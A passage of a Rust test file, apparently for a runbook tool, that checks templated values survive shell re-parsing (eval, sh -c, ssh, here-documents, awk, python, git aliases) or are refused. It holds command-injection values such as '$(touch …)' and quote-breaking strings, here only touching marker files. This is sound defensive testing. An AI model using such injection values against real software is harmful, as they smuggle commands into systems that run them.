//! Values stay data in strings that other shells parse again (`eval`, `sh -c "…"`,
//! `ssh HOST "…"`, here-documents fed to a shell), at depth 1 and 2, through the real binary
//! and a real local sshd: each value arrives byte for byte, or the step is refused before
//! anything runs.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is a failed test

mod common;

use common::Test;
use common::run::HEAD;
use common::sshd::Sshd;

/// Values that run code if any shell on their way parses them; `{m}` is the marker folder.
fn hostile(m: &str) -> Vec<String> {
    vec![
        format!("$(touch {m}/1)"),
        format!("`touch {m}/2`"),
        format!("a'; touch {m}/3; echo '"),
        format!("a\"; touch {m}/4; echo \""),
        format!("x\\\"$(touch {m}/5)\\"),
        format!("line 1\n touch {m}/6\n"),
        "-n".to_string(),
        format!("-e \\x41 ${{IFS}} *; touch {m}/7 # $'x'"),
        format!("a\\\\'b\\''; touch {m}/8"),
        String::new(),
    ]
}

/// (step id, command writing `[VALUE]` to `$OUT/<id>`).
fn local_steps() -> Vec<(&'static str, String)> {
    vec![
        ("eval-quoted", r#"eval "printf '[%s]' {{ inputs.v }}" > "$OUT/eval-quoted""#.into()),
        ("eval-words", r#"eval printf "'[%s]'" {{ inputs.v }} > "$OUT/eval-words""#.into()),
        ("sh-c", r#"sh -c "printf '[%s]' {{ inputs.v }}" > "$OUT/sh-c""#.into()),
        ("bash-c-single", r#"bash -c 'printf "[%s]" "{{ inputs.v }}"' > "$OUT/bash-c-single""#.into()),
        ("depth-2", r#"bash -c "sh -c 'printf \"[%s]\" {{ inputs.v }}'" > "$OUT/depth-2""#.into()),
        ("env-i", r#"env -i sh -c "sh -c 'printf \"[%s]\" {{ inputs.v }}'" > "$OUT/env-i""#.into()),
        ("xargs", r#"echo | xargs sh -c 'printf "[%s]" {{ inputs.v }}' > "$OUT/xargs""#.into()),
        ("find", r#"find /dev/null -maxdepth 0 -exec sh -c 'printf "[%s]" {{ inputs.v }}' \; > "$OUT/find""#.into()),
        ("pipe", r#"echo "printf '[%s]' {{ inputs.v }}" | sh > "$OUT/pipe""#.into()),
        ("declare", r#"declare -a "a=({{ inputs.v }})"; printf '[%s]' "${a[@]}" > "$OUT/declare""#.into()),
        ("declare-scalar", r#"declare "a=({{ inputs.v }})"; printf '%s' "$a" | sed 's/^(/[/; s/)$/]/' > "$OUT/declare-scalar""#.into()),
        ("su-lc", r#"su -lc "printf '[%s]' {{ inputs.v }}" root > "$OUT/su-lc""#.into()),
        ("herestring", r#"bash <<< "printf '[%s]' {{ inputs.v }}" > "$OUT/herestring""#.into()),
        ("exec-a", r#"exec -a named sh -c "printf '[%s]' {{ inputs.v }}" > "$OUT/exec-a""#.into()),
        ("command-p", r#"command -p sh -c "printf '[%s]' {{ inputs.v }}" > "$OUT/command-p""#.into()),
        ("time-p", r#"time -p sh -c "printf '[%s]' {{ inputs.v }}" > "$OUT/time-p" 2>/dev/null"#.into()),
        ("bash-plus", r#"bash +e +o pipefail -c "printf '[%s]' {{ inputs.v }}" > "$OUT/bash-plus""#.into()),
        ("trap", r#"trap "printf '[%s]' {{ inputs.v }} > \"\$OUT/trap\"" EXIT"#.into()),
        ("alias", "shopt -s expand_aliases\nalias p=\"printf '[%s]' {{ inputs.v }}\"\np > \"$OUT/alias\"".into()),
        ("coproc", r#"coproc sh -c "printf '[%s]' {{ inputs.v }}"; cat <&"${COPROC[0]}" > "$OUT/coproc""#.into()),
        ("taskset", r#"taskset -c 0 sh -c "printf '[%s]' {{ inputs.v }}" > "$OUT/taskset""#.into()),
        ("chroot", r#"chroot / sh -c "printf '[%s]' {{ inputs.v }}" > "$OUT/chroot""#.into()),
        ("argument", r#"sh -c 'printf "[%s]" "$1"' sh "{{ inputs.v }}" > "$OUT/argument""#.into()),
        // A function or a program runbook does not know, wrapping one that parses again.
        ("retry-eval", r#"retry() { "$@"; }; retry eval "printf '[%s]' {{ inputs.v }}" > "$OUT/retry-eval""#.into()),
        ("wrapper-su", r#"mytool() { "$@"; }; mytool su -c "printf '[%s]' {{ inputs.v }}" root > "$OUT/wrapper-su""#.into()),
        ("dollar-at", r#"sh -c '"$@"' sh eval "printf '[%s]' {{ inputs.v }}" > "$OUT/dollar-at""#.into()),
        ("wrapper-trap", r#"wrap() { "$@"; }; wrap trap "printf '[%s]' {{ inputs.v }} > \"\$OUT/wrapper-trap\"" EXIT"#.into()),
        // Fourth audit: documents read by a shell that a group, a function, a descriptor or
        // a `-c` script starts; `printf %q` of a value in a re-parsed string.
        ("group-heredoc", "{ bash; } <<EOF\nprintf '[%s]' {{ inputs.v }} > \"$OUT/group-heredoc\"\nEOF".into()),
        ("function-heredoc", "run_it() { bash -s; }\nrun_it <<EOF\nprintf '[%s]' {{ inputs.v }} > \"$OUT/function-heredoc\"\nEOF".into()),
        ("fd-script", "bash /dev/fd/3 3<<EOF\nprintf '[%s]' {{ inputs.v }} > \"$OUT/fd-script\"\nEOF".into()),
        ("sh-c-stdin", "sh -c \"cd /tmp && sh\" <<EOF\nprintf '[%s]' {{ inputs.v }} > \"$OUT/sh-c-stdin\"\nEOF".into()),
        ("printf-q", r#"bash -c "printf '[%s]' $(printf %q "{{ inputs.v }}")" > "$OUT/printf-q""#.into()),
        // Seventh audit: programs that hand a string to a shell after `--` or in an option;
        // an environment cleared by `exec -c` or an abbreviated `env --ignore-environment`.
        ("capsh", r#"capsh -- -c "printf '[%s]' {{ inputs.v }}" > "$OUT/capsh""#.into()),
        ("start-stop-daemon", r#"start-stop-daemon --start --quiet --pidfile "$OUT/none.pid" --startas /bin/sh -- -c "printf '[%s]' {{ inputs.v }}" > "$OUT/start-stop-daemon""#.into()),
        ("zip-tt", r#"cd "$OUT" && echo a > f-zip && zip -q -T -TT "printf '[%s]' {{ inputs.v }} > zip-tt; true" z.zip f-zip"#.into()),
        ("exec-c", r#"( exec -c /bin/sh -c "printf '[%s]' {{ inputs.v }}" ) > "$OUT/exec-c""#.into()),
        ("env-ignore-env", r#"env --ignore-env PATH=/usr/bin:/bin sh -c "printf '[%s]' {{ inputs.v }}" > "$OUT/env-ignore-env""#.into()),
        // Eighth audit: a value written to a file, where nothing parses unknown text again
        // (a literal string, a variable the script never sets).
        ("written-literal-reparse", r#"printf '[%s]' "{{ inputs.v }}" > "$OUT/written-literal-reparse"; sh -c 'true'"#.into()),
        ("written-env-reparse", r#"printf '[%s]' "{{ inputs.v }}" > "$OUT/written-env-reparse"; sh -c "test -n $HOME""#.into()),
        // Thirteenth audit: a process substitution that a redirection reads.
        // Audit 28 H-15: a program that runs each operand with `sh -c` (a stand-in for
        // hyperfine, which does so with the caller's environment).
        ("hyperfine", "mkdir -p \"$OUT/fake\" && printf '#!/bin/sh\\nexec sh -c \"$1\"\\n' > \"$OUT/fake/hyperfine\" && chmod +x \"$OUT/fake/hyperfine\"\nPATH=\"$OUT/fake:$PATH\" hyperfine \"printf '[%s]' {{ inputs.v }}\" > \"$OUT/hyperfine\"".into()),
        ("procsub-redirect", r#"cat < <(eval "printf '[%s]' {{ inputs.v }}") > "$OUT/procsub-redirect""#.into()),
        ("procsub-loop", "while IFS= read -r -d '' l; do printf '%s' \"$l\"; done < <(bash -c \"printf '[%s]\\\\0' {{ inputs.v }}\") > \"$OUT/procsub-loop\"".into()),
        // A document for a function whose ssh has a command: that command's input, data
        // (it arrived quoted for a remote shell).
        ("ssh-command-input", "remote() { local s; s=$(cat; printf .); s=${s%.}; printf '[%s]' \"${s%$'\\n'}\" > \"$OUT/ssh-command-input\"; ssh -o BatchMode=yes -p 1 127.0.0.1 \"logger hi\" 2>/dev/null || true; }\nremote <<< \"{{ inputs.v }}\"".into()),
        // Beside the floor (`shell::unseen`): re-parsed strings that expand only literal
        // text, the environment or the value itself, and variables set otherwise that reach
        // no such string.
        ("floor-literal", "svc=nginx\nfor h in a b; do :; done\nsh -c \"test -n $svc$HOME\"\nsh -c \"printf '[%s]' {{ inputs.v }}\" > \"$OUT/floor-literal\"".into()),
        ("floor-copy-unused", "m=\"{{ inputs.v }}\"\nn=$(printf '%s.' \"$m\")\nn=${n%.}\nprintf '[%s]' \"$n\" > \"$OUT/floor-copy-unused\"\nsh -c 'true'".into()),
    ]
}

/// (step id, command): a value that is not one plain word must be refused there.
fn refused_steps() -> Vec<(&'static str, String)> {
    vec![
        ("eval-positional", r#"sh -c 'eval "$1"' sh "printf '[%s]' {{ inputs.v }}" > "$OUT/eval-positional""#.into()),
        ("eval-args", r#"bash -c 'eval "$@"' _ "printf '[%s]' {{ inputs.v }}" > "$OUT/eval-args""#.into()),
        ("variable-eval", r#"E=eval; $E "printf '[%s]' {{ inputs.v }}" > "$OUT/variable-eval""#.into()),
        ("ps4", r#"PS4='{{ inputs.v }}'; set -x; true; printf '[x]' > "$OUT/ps4""#.into()),
        ("export-ps4", r#"export PS4="{{ inputs.v }}"; set -x; true; printf '[x]' > "$OUT/export-ps4""#.into()),
        ("mapfile-c", r#"mapfile -t -C "{{ inputs.v }}" -c 1 a <<< x; printf '[x]' > "$OUT/mapfile-c""#.into()),
        ("dbl-bracket-v", r#"[[ -v "{{ inputs.v }}" ]]; printf '[x]' > "$OUT/dbl-bracket-v""#.into()),
        ("pipe-read-arith", r#"echo "{{ inputs.v }}" | while read -r n; do echo $(( n + 1 )); done > "$OUT/pipe-read-arith""#.into()),
        ("xargs-i", r#"printf '%s' "{{ inputs.v }}" | xargs -0 -I{} sh -c "printf '[%s]' '{}'" > "$OUT/xargs-i""#.into()),
        ("xargs-arith", r#"printf '%s' "{{ inputs.v }}" | xargs -0 bash -c 'echo $(( $1 ))' _ > "$OUT/xargs-arith""#.into()),
        ("env-option", r#"env {{ inputs.v }} true; printf '[x]' > "$OUT/env-option""#.into()),
        ("unclosed", "printf '[x]' > \"$OUT/unclosed\"\nprintf '[%s]' \"{{ inputs.v }}".into()),
        ("ssh-config", r#"printf 'Host h\n  ProxyCommand %s\n' "{{ inputs.v }}" > "$OUT/cfg"; ssh -F "$OUT/cfg" -o BatchMode=yes h true; printf '[x]' > "$OUT/ssh-config""#.into()),
        ("npx-c", r#"npx -c "printf '[%s]' {{ inputs.v }}" > "$OUT/npx-c""#.into()),
        ("tmux-send", r#"tmux send-keys -t x "{{ inputs.v }}" Enter; printf '[x]' > "$OUT/tmux-send""#.into()),
        // Ninth audit: pipes into a function or a group that starts a shell, a shell whose
        // script is xargs' input, GNU parallel with no command, copies through the variables
        // bash fills by itself.
        ("pipe-function", "runit() { sh; }\necho \"printf '[%s]' {{ inputs.v }}\" | runit > \"$OUT/pipe-function\"".into()),
        ("pipe-group", r#"echo "printf '[%s]' {{ inputs.v }}" | (cd /tmp && sh) > "$OUT/pipe-group""#.into()),
        ("xargs-sh-c", r#"echo "{{ inputs.v }}" | xargs -0 sh -c > "$OUT/xargs-sh-c""#.into()),
        ("parallel-bare", r#"parallel ::: "{{ inputs.v }}" > "$OUT/parallel-bare""#.into()),
        ("reply-copy", r#"read -r <<< "{{ inputs.v }}"; sh -c "printf '[%s]' $REPLY" > "$OUT/reply-copy""#.into()),
        ("mapfile-copy", r#"mapfile -t <<< "{{ inputs.v }}"; sh -c "printf '[%s]' ${MAPFILE[0]}" > "$OUT/mapfile-copy""#.into()),
        ("rematch-copy", r#"[[ "{{ inputs.v }}" =~ (.*) ]] && sh -c "printf '[%s]' ${BASH_REMATCH[1]}" > "$OUT/rematch-copy""#.into()),
        // Tenth: code of another language that hands strings to a shell, given the value
        // spliced in or as an argument; a here-document copied to a file then run (quoted
        // into it: data); tmux hooks.
        ("awk-system", r#"awk 'BEGIN { system("printf [%s] {{ inputs.v }}") }' > "$OUT/awk-system""#.into()),
        ("python-shell-arg", r#"python3 -c 'import subprocess,sys; subprocess.run(sys.argv[1], shell=True)' "printf [%s] {{ inputs.v }}" > "$OUT/python-shell-arg""#.into()),
        ("install-stdin", "install -m 755 /dev/stdin \"$OUT/job.sh\" <<EOF\nprintf '[%s]' {{ inputs.v }}\nEOF\n\"$OUT/job.sh\" > \"$OUT/install-stdin\"".into()),
        ("func-copy", "restart() { sh -c \"printf '[%s]' $1\"; }\nsvc=\"{{ inputs.v }}\"\nrestart \"$svc\" > \"$OUT/func-copy\"".into()),
        ("xargs-ssh-host", r#"echo "{{ inputs.v }}" | tr ' ' '\n' | xargs -I{} ssh -o BatchMode=yes {} true; printf '[x]' > "$OUT/xargs-ssh-host""#.into()),
        ("pipe-read-ssh", r#"echo "{{ inputs.v }}" | while read -r h; do ssh -n -o BatchMode=yes "$h" true; done; printf '[x]' > "$OUT/pipe-read-ssh""#.into()),
        ("tmux-hook", r#"tmux set-hook -g after-new-window "run-shell 'printf [%s] {{ inputs.v }}'"; printf '[x]' > "$OUT/tmux-hook""#.into()),
        // Second audit: copies, wrappers before `sh -c 'eval "$1"'`, prompt expansion,
        // compgen, process substitutions and descriptors, names in variables, git.
        ("copy", r#"x="{{ inputs.v }}"; y=$x; eval "printf '[%s]' $y" > "$OUT/copy""#.into()),
        ("copy-quoted", r#"x="{{ inputs.v }}"; y="pre-$x"; eval "printf '[%s]' ${y#pre-}" > "$OUT/copy-quoted""#.into()),
        ("local-copy", r#"f() { local c=$1; eval "$c"; }; f "printf '[%s]' {{ inputs.v }}" > "$OUT/local-copy""#.into()),
        ("env-prefix", r#"x="{{ inputs.v }}" sh -c 'eval "printf [%s] $x"' > "$OUT/env-prefix""#.into()),
        ("dollar-zero", r#"sh -c 'eval "printf [%s] $0"' "{{ inputs.v }}" > "$OUT/dollar-zero""#.into()),
        ("timeout-eval", r#"timeout 5 sh -c 'eval "$1"' sh "printf '[%s]' {{ inputs.v }}" > "$OUT/timeout-eval""#.into()),
        ("prompt-p", r#"x="{{ inputs.v }}"; printf '[%s]' "${x@P}" > "$OUT/prompt-p""#.into()),
        ("printf-ps4", r#"printf -v PS4 %s "{{ inputs.v }}"; set -x; true; printf '[x]' > "$OUT/printf-ps4""#.into()),
        ("compgen", r#"compgen -W "{{ inputs.v }}" > "$OUT/compgen""#.into()),
        ("procsub-out", r#"echo "printf '[%s]' {{ inputs.v }}" > >(bash) ; sleep 0.2"#.into()),
        ("fd-procsub", r#"exec 3> >(sh); echo "printf '[%s]' {{ inputs.v }}" >&3"#.into()),
        ("herestring-var", r#"x="{{ inputs.v }}"; sh <<< "printf '[%s]' $x" > "$OUT/herestring-var""#.into()),
        ("pipe-var", r#"x="{{ inputs.v }}"; printf "printf '[%%s]' %s" "$x" | bash > "$OUT/pipe-var""#.into()),
        ("name-in-var", r#"n="{{ inputs.v }}"; printf -v "$n" %s 1; printf '[x]' > "$OUT/name-in-var""#.into()),
        ("git-ssh", r#"GIT_SSH_COMMAND="printf [%s] {{ inputs.v }} > $OUT/git-ssh; false" git ls-remote ssh://h/x"#.into()),
        ("git-alias", r#"git -c "alias.x=!printf '[%s]' {{ inputs.v }} > $OUT/git-alias" x"#.into()),
        ("tmux-d", r#"tmux new-session -d "printf '[%s]' {{ inputs.v }} > $OUT/tmux-d""#.into()),
        // Third audit: loops over copies, commands after keywords, su reading a document.
        ("for-copy", r#"SVCS="{{ inputs.v }}"; for s in $SVCS; do eval "printf '[%s]' $s"; done > "$OUT/for-copy""#.into()),
        ("then-for", r#"if true; then for s in "{{ inputs.v }}"; do eval "printf '[%s]' $s"; done; fi > "$OUT/then-for""#.into()),
        ("while-read", "SVCS=\"{{ inputs.v }}\"\nwhile read -r s; do eval \"printf '[%s]' $s\"; done <<< \"$SVCS\" > \"$OUT/while-read\"".into()),
        ("array-loop", r#"a=("{{ inputs.v }}" x); for s in "${a[@]}"; do eval "printf '[%s]' $s"; done > "$OUT/array-loop""#.into()),
        ("su-heredoc", "su root <<EOF\nprintf '[%s]' {{ inputs.v }} > \"$OUT/su-heredoc\"\nEOF".into()),
        // Fourth audit: a copy reaching an option or split into a command's words, names
        // held in variables, a pipe of filters into a loop that parses again.
        ("option-copy", r#"r="{{ inputs.v }}"; git clone -q "$r" "$OUT/clone" 2>/dev/null; printf '[x]' > "$OUT/option-copy""#.into()),
        ("split-copy", r#"u="{{ inputs.v }}"; timeout 5 $u 2>/dev/null; printf '[x]' > "$OUT/split-copy""#.into()),
        ("indirect", r#"v="{{ inputs.v }}"; n=v; eval "printf '[%s]' ${!n}" > "$OUT/indirect""#.into()),
        ("nameref", r#"declare -n r=v; v="{{ inputs.v }}"; eval "printf '[%s]' $r" > "$OUT/nameref""#.into()),
        ("pipe-filter-loop", r#"v="{{ inputs.v }}"; echo "$v" | tr a a | while read -r l; do eval "printf '[%s]' $l"; done > "$OUT/pipe-filter-loop""#.into()),
        // Fourth audit: changes on the way, loops over parameters, getopts, xargs and exec
        // given a document.
        ("patsub-split", r#"u="{{ inputs.v }}"; timeout 5 ${u//,/ } 2>/dev/null || true; printf '[x]' > "$OUT/patsub-split""#.into()),
        ("subst-assign", r#"h=$(echo "{{ inputs.v }}" | tr , " "); timeout 5 $h 2>/dev/null || true; printf '[x]' > "$OUT/subst-assign""#.into()),
        ("for-positional", r#"set -- "{{ inputs.v }}"; for h do git clone -q "$h" "$OUT/c" 2>/dev/null || true; done; printf '[x]' > "$OUT/for-positional""#.into()),
        ("getopts", r#"set -- -h "{{ inputs.v }}"; while getopts h: o; do H=$OPTARG; done; git clone -q "$H" "$OUT/c" 2>/dev/null || true; printf '[x]' > "$OUT/getopts""#.into()),
        ("xargs-heredoc", "xargs -I{} sh -c \"printf '[%s]' '{}'\" <<EOF > \"$OUT/xargs-heredoc\"\n{{ inputs.v }}\nEOF".into()),
        ("exec-herestring", r#"exec 3<<< "printf '[%s]' {{ inputs.v }}"; bash <&3 > "$OUT/exec-herestring""#.into()),
        // Sixth round: a positional parameter run as a command, a substitution's output
        // split into one, a copy made by `printf -v` in a function, a makefile on stdin.
        ("positional-command", r#"sh -c '$1' _ "{{ inputs.v }}"; printf '[x]' > "$OUT/positional-command""#.into()),
        ("substitution-command", r#"$(printf %s "{{ inputs.v }}"); printf '[x]' > "$OUT/substitution-command""#.into()),
        ("backquote-command", r#"`printf %s "{{ inputs.v }}"`; printf '[x]' > "$OUT/backquote-command""#.into()),
        ("printf-v-function", r#"f() { printf -v c '%s' "$1"; eval "$c"; }; f "printf '[%s]' {{ inputs.v }}" > "$OUT/printf-v-function""#.into()),
        // Sixth audit: git's configuration stored or given by environment, `${x@Q}` inside
        // the next shell's own quotes, aliases.
        ("git-config-alias", r#"git config --file "$OUT/gc" alias.zz "!printf '[%s]' '{{ inputs.v }}'"; printf '[x]' > "$OUT/git-config-alias""#.into()),
        ("git-config-env", r#"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.zz GIT_CONFIG_VALUE_0="!printf '[%s]' '{{ inputs.v }}'" git zz > "$OUT/git-config-env""#.into()),
        ("q-in-quotes", r#"x="{{ inputs.v }}"; sh -c "printf '[%s]' \"${x@Q}\"" > "$OUT/q-in-quotes""#.into()),
        ("alias-eval", "shopt -s expand_aliases\nalias ev=eval\nev \"printf '[%s]' {{ inputs.v }}\" > \"$OUT/alias-eval\"".into()),
        ("make-stdin", "make -s -f - <<EOF > \"$OUT/make-stdin\"\nall:\n\t@printf '[%s]' {{ inputs.v }}\nEOF".into()),
        // Seventh audit: copies into array elements, an array read from a substitution.
        ("printf-v-element", "declare -A svc\nprintf -v 'svc[name]' '%s' \"{{ inputs.v }}\"\neval \"printf '[%s]' ${svc[name]}\" > \"$OUT/printf-v-element\"".into()),
        ("read-element", "read -r 'hosts[0]' <<< \"{{ inputs.v }}\"\neval \"printf '[%s]' ${hosts[0]}\" > \"$OUT/read-element\"".into()),
        ("mapfile-procsub", "mapfile -t svcs < <(printf '%s\\n' \"{{ inputs.v }}\")\nfor s in \"${svcs[@]}\"; do eval \"printf '[%s]' $s\"; done > \"$OUT/mapfile-procsub\"".into()),
        // Seventh audit: an array declared associative only in a function, or after.
        ("assoc-scope", "reset_seen() { local -A seen=(); }\nseen[\"{{ inputs.v }}\"]=1; printf '[x]' > \"$OUT/assoc-scope\"".into()),
        ("assoc-later", "seen[\"{{ inputs.v }}\"]=1; declare -A seen; printf '[x]' > \"$OUT/assoc-later\"".into()),
        // Seventh audit: a script read from a document that parses its `$1` again.
        ("stdin-positional", "bash -s -- \"{{ inputs.v }}\" <<'EOT' > \"$OUT/stdin-positional\"\neval \"printf '[%s]' $1\"\nEOT".into()),
        // Seventh audit: a function of a sourced file, which runbook cannot read.
        ("sourced-function", "printf 'on_host() { shift; eval \"$@\"; }\\n' > \"$OUT/lib.sh\"\n. \"$OUT/lib.sh\"\non_host web-1 printf \"'[%s]'\" \"{{ inputs.v }}\" > \"$OUT/sourced-function\"".into()),
        // Seventh audit: GNU parallel's command (its `:::` arguments are quoted by it).
        ("parallel", r#"parallel -j4 printf "'[%s]'" "{{ inputs.v }}" ::: x > "$OUT/parallel""#.into()),
        ("sem", r#"sem --id rb "printf '[%s]' {{ inputs.v }} > $OUT/sem"; sem --wait --id rb"#.into()),
        // Eighth audit: a value that leaves what runbook follows (a file, a function's
        // output) where the script parses text of unknown origin again.
        ("file-then-run", "cd \"$OUT\"\necho \"printf '[%s]' {{ inputs.v }}\" > job.sh\nbash job.sh > file-then-run".into()),
        ("file-appended", "cd \"$OUT\"\necho \"printf '[%s]' {{ inputs.v }}\" >> job.sh\n. ./job.sh > file-appended".into()),
        ("file-chmod-run", "cd \"$OUT\"\nprintf 'printf [%%s] %s\\n' \"{{ inputs.v }}\" > job.sh; chmod +x job.sh\n./job.sh > file-chmod-run".into()),
        ("file-in-variable", "F=\"$OUT/job.sh\"; echo \"printf '[%s]' {{ inputs.v }}\" > \"$F\"; bash \"$F\" > \"$OUT/file-in-variable\"".into()),
        ("file-copied", "cd \"$OUT\"\necho \"printf '[%s]' {{ inputs.v }}\" > a.sh; cp a.sh b.sh; bash b.sh > file-copied".into()),
        ("file-fd", "cd \"$OUT\"\nexec 3>job.sh; echo \"printf '[%s]' {{ inputs.v }}\" >&3; exec 3>&-; bash job.sh > file-fd".into()),
        ("file-sed-template", "cd \"$OUT\"\nprintf 'printf [%%s] @V@\\n' > t.sh; sed \"s|@V@|{{ inputs.v }}|\" t.sh > job.sh; bash job.sh > file-sed-template".into()),
        ("file-stdin", "cd \"$OUT\"\necho \"printf '[%s]' {{ inputs.v }}\" > job.sh; bash < job.sh > file-stdin".into()),
        ("file-roundtrip-eval", "cd \"$OUT\"\necho \"{{ inputs.v }}\" > f1; c=$(cat f1); eval \"printf '[%s]' $c\" > file-roundtrip-eval".into()),
        ("file-while-read", "cd \"$OUT\"\nprintf '%s\\n' \"{{ inputs.v }}\" > list\nwhile read -r h; do eval \"printf '[%s]' $h\"; done < list > file-while-read".into()),
        ("function-output-eval", "f() { echo \"{{ inputs.v }}\"; }; c=$(f); eval \"printf '[%s]' $c\" > \"$OUT/function-output-eval\"".into()),
        ("array-behind-timeout", "cmd=(sh -c \"printf '[%s]' {{ inputs.v }}\"); timeout 5 \"${cmd[@]}\" > \"$OUT/array-behind-timeout\"".into()),
        ("group-write", "{ echo \"printf '[%s]' {{ inputs.v }}\"; } > \"$OUT/j.sh\"; bash \"$OUT/j.sh\" > \"$OUT/group-write\"".into()),
        ("function-in-if", "if true; then wrap() { sh -c \"$*\"; }; fi\nwrap printf \"'[%s]'\" \"{{ inputs.v }}\" > \"$OUT/function-in-if\"".into()),
        // Eleventh audit: how a function that parses its arguments again is reached (the
        // last argument `${!#}`, a trap, a variable naming it, a sourced file, `export -f`
        // into `bash -c`), code read from standard input given the value as an argument,
        // Python's and Perl's other spellings of a shell, awk piping to a command built
        // from data, sed's `e`, and lines of a value read where options are read.
        ("last-arg", "f() { sh -c \"printf '[%s]' ${!#}\"; }\nf x \"{{ inputs.v }}\" > \"$OUT/last-arg\"".into()),
        ("trap-function", "rs() { sh -c \"printf '[%s]' $1\" > \"$OUT/trap-function\"; }\ntrap 'rs \"{{ inputs.v }}\"' EXIT".into()),
        ("trap-copy", "rs() { sh -c \"printf '[%s]' $1\" > \"$OUT/trap-copy\"; }\ns=\"{{ inputs.v }}\"\ntrap 'rs \"$s\"' EXIT".into()),
        ("function-in-variable", "rs() { sh -c \"printf '[%s]' $1\"; }\nfn=rs\ns=\"{{ inputs.v }}\"\n\"$fn\" \"$s\" > \"$OUT/function-in-variable\"".into()),
        ("sourced-copy", "printf 'rs() { eval \"printf [%%s] $1\"; }\\n' > \"$OUT/lib.sh\"\n. \"$OUT/lib.sh\"\ns=\"{{ inputs.v }}\"\nrs \"$s\" > \"$OUT/sourced-copy\"".into()),
        ("export-f", "rs() { sh -c \"printf '[%s]' $1\"; }\nexport -f rs\ns=\"{{ inputs.v }}\"\ntimeout 5 bash -c 'rs \"$1\"' _ \"$s\" > \"$OUT/export-f\"".into()),
        ("stdin-code-arg", "python3 - \"printf [%s] {{ inputs.v }}\" <<'PY' > \"$OUT/stdin-code-arg\"\nimport subprocess, sys\nsubprocess.call(sys.argv[1], shell=True)\nPY".into()),
        ("python-shell-1", r#"python3 -c 'import subprocess as s,sys; s.Popen(sys.argv[1], shell=1).wait()' "printf [%s] {{ inputs.v }}" > "$OUT/python-shell-1""#.into()),
        ("perl-open-dash", r#"perl -e 'open(F, "-|", "printf [%s] $ARGV[0]"); print <F>' "{{ inputs.v }}" > "$OUT/perl-open-dash""#.into()),
        ("awk-pipe-var", r#"echo "printf [%s] {{ inputs.v }}" | awk '{ c = $0; print "" | c }' > "$OUT/awk-pipe-var""#.into()),
        ("sed-e", r#"echo "printf [%s] {{ inputs.v }}" | sed 's/^//e' > "$OUT/sed-e""#.into()),
        ("copy-pipe-loop", "H=\"{{ inputs.v }}\"\necho \"$H\" | while read -r h; do git clone -q \"$h\" \"$OUT/c\" 2>/dev/null || true; done\nprintf '[x]' > \"$OUT/copy-pipe-loop\"".into()),
        ("function-loop", "on_all() { while read -r h; do git clone -q \"$h\" \"$OUT/c\" 2>/dev/null || true; done; }\non_all <<< \"{{ inputs.v }}\"\nprintf '[x]' > \"$OUT/function-loop\"".into()),
        ("cat-heredoc-loop", "cat <<EOT | while read -r h; do git clone -q \"$h\" \"$OUT/c\" 2>/dev/null || true; done\n{{ inputs.v }}\nEOT\nprintf '[x]' > \"$OUT/cat-heredoc-loop\"".into()),
        ("file-loop-option", "echo \"{{ inputs.v }}\" > \"$OUT/hosts\"\nwhile read -r h; do git clone -q \"$h\" \"$OUT/c\" 2>/dev/null || true; done < \"$OUT/hosts\"\nprintf '[x]' > \"$OUT/file-loop-option\"".into()),
        // Twelfth: a copy through a command substitution, a document read into a variable,
        // a program named by a variable given a copy, array elements, lists split by `=( )`
        // and `set --`.
        ("subst-copy", "x=\"{{ inputs.v }}\"\nsvc=$(echo \"$x\")\neval \"printf '[%s]' $svc\" > \"$OUT/subst-copy\"".into()),
        ("read-document", "svc=\"{{ inputs.v }}\"\nread -r -d '' cmd <<EOF || true\nprintf '[%s]' $svc\nEOF\neval \"$cmd\" > \"$OUT/read-document\"".into()),
        ("variable-program-copy", "E=eval\nsvc=\"{{ inputs.v }}\"\n$E \"printf '[%s]' $svc\" > \"$OUT/variable-program-copy\"".into()),
        ("array-element", "declare -A cfg\ncfg[s]=\"{{ inputs.v }}\"\neval \"printf '[%s]' ${cfg[s]}\" > \"$OUT/array-element\"".into()),
        ("array-split", "x=\"{{ inputs.v }}\"\nhosts=($x)\nfor h in \"${hosts[@]}\"; do git clone -q \"$h\" \"$OUT/c\" 2>/dev/null || true; done\nprintf '[x]' > \"$OUT/array-split\"".into()),
        ("set-split", "x=\"{{ inputs.v }}\"\nset -- $x\nfor h; do git clone -q \"$h\" \"$OUT/c\" 2>/dev/null || true; done\nprintf '[x]' > \"$OUT/set-split\"".into()),
        // Caught by the floor alone (`shell::unseen`): ways the flow model does not follow.
        ("nameref", "rs() { local -n r=$1; eval \"printf '[%s]' $r\"; }\nsvc=\"{{ inputs.v }}\"\nrs svc > \"$OUT/nameref\"".into()),
        ("out-param", "get() { printf -v \"$1\" '%s' \"$2\"; }\nget svc \"{{ inputs.v }}\"\neval \"printf '[%s]' $svc\" > \"$OUT/out-param\"".into()),
        ("fd-read", "x=\"{{ inputs.v }}\"\nread -r -u3 svc 3<<< \"$x\"\neval \"printf '[%s]' $svc\" > \"$OUT/fd-read\"".into()),
        ("function-cat", "f() { local svc=$(cat); eval \"printf '[%s]' $svc\"; }\nf <<< \"{{ inputs.v }}\" > \"$OUT/function-cat\"".into()),
        ("dispatch", "rs() { eval \"printf '[%s]' $1\"; }\ndeclare -A h=([r]=rs)\nsvc=\"{{ inputs.v }}\"\n\"${h[r]}\" \"$svc\" > \"$OUT/dispatch\"".into()),
        ("eval-last", "r() { eval \"last=\\${$#}\"; eval \"printf '[%s]' $last\"; }\nr x \"{{ inputs.v }}\" > \"$OUT/eval-last\"".into()),
        ("exec-fd", "x=\"{{ inputs.v }}\"\nexec 4< <(echo \"$x\")\nread -r -u4 svc\neval \"printf '[%s]' $svc\" > \"$OUT/exec-fd\"".into()),
        ("find-exec-function", "rs() { eval \"printf '[%s]' $1\"; }\nexport -f rs\nsvc=\"{{ inputs.v }}\"\nfind /tmp -maxdepth 0 -exec bash -c 'rs \"$1\"' _ \"$svc\" \\; > \"$OUT/find-exec-function\"".into()),
        ("kubectl-array", "key=\"{{ inputs.v }}\"\nc=(sh -c \"printf '[%s]' $key\")\nkubectl exec app-0 -- \"${c[@]}\" > \"$OUT/kubectl-array\"".into()),
        ("python-code-subst", "python3 -c \"$(cat <<'PY'\nimport os, sys\nos.system(\"printf [%s] \" + sys.argv[1])\nPY\n)\" \"{{ inputs.v }}\" > \"$OUT/python-code-subst\"".into()),
        ("shipped-function", "rs() { sh -c \"printf '[%s]' $1\"; }\nsh -c \"$(declare -f rs); rs {{ inputs.v }}\" > \"$OUT/shipped-function\"".into()),
